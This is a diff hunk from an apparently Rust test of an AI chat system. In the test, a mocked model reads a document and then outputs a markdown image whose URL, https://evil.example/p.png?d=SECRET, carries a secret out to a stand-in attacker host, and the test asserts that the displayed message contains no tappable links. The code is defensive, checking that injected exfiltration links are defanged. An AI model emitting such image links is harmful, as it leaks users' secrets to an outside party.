@@ -24,9 +24,7 @@ async fn incident_114_an_address_that_the_owner_did_not_write_is_defanged() {
     assert!(tappable(&clean.message) > 0, "the control: {}", clean.message);
 
     let read = || Step::call("read_document", json!({ "path": "page.txt" }));
-    world
-        .model
-        .on("#page", [read(), Step::say(&format!("{link} ![p](https://evil.example/p.png?d=SECRET)"))]);
+    world.model.on("#page", [read(), Step::say(format!("{link} ![p](https://evil.example/p.png?d=SECRET)"))]);
     world.anna.says("#page");
     let shown = world.anna.hears().await;
     assert_eq!(tappable(&shown.message), 0, "{}", shown.message);
